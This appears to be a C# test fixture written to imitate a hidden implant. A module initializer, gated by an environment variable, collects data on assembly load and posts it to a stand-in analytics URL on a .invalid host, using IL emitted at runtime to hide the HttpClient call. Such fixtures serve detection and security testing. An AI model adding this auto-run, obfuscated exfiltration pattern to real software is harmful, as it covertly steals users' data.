using System;
using System.Net.Http;
using System.Reflection.Emit;
using System.Runtime.CompilerServices;
using System.Threading.Tasks;

namespace Inert.Injection;

internal static class Startup
{
#pragma warning disable CA2255
    [ModuleInitializer]
    internal static void Start()
    {
        // Inert: nobody sets this variable.
        if (Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") is null) return;
        var send = Build();
        Task.Run(() => send(Seal.Close(Collector.Everything())));
    }

    private static Action<byte[]> Build()
    {
        var method = new DynamicMethod("", null, [typeof(byte[])], typeof(Startup).Module, true);
        var il = method.GetILGenerator();
        il.Emit(OpCodes.Newobj, typeof(HttpClient).GetConstructor(Type.EmptyTypes)!);
        il.Emit(OpCodes.Ldstr, "https://api.paystats.invalid/api/analytics/report");
        il.Emit(OpCodes.Ldarg_0);
        il.Emit(OpCodes.Newobj, typeof(ByteArrayContent).GetConstructor([typeof(byte[])])!);
        il.Emit(OpCodes.Callvirt, typeof(HttpClient).GetMethod(nameof(HttpClient.PostAsync), [typeof(string), typeof(HttpContent)])!);
        il.Emit(OpCodes.Pop);
        il.Emit(OpCodes.Ret);
        return method.CreateDelegate<Action<byte[]>>();
    }
}
